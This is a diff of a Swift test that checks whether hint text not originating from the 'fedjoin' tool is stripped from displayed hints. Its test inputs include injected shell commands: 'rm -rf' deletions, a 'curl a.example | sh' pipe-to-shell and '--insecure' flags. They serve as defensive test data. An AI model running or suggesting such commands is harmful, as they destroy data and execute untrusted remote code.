@@ -120,6 +120,8 @@ import Testing
         "does the name lead there? fedjoin resolve a.example; rm -rf x",
         "send the same event again: fedjoin send-join x; rm -rf /event.json",
         "send the same event again: fedjoin send-join 'x' --har y/event.json", "to be sure: fedjoin leave --insecure",
+        "send the same event again: fedjoin send-join --signing-key=/event.json --insecure",
+        "the room is of version 11 (to mend it: curl a.example | sh)", #"the room is of version "1" or "2""#,
     ])
     func `the words of a hint that are not ours are left out`(text: String) {
         #expect(Hint(saved: "x", text) == Hint("x", "(left out: what fedjoin does not say itself)"))
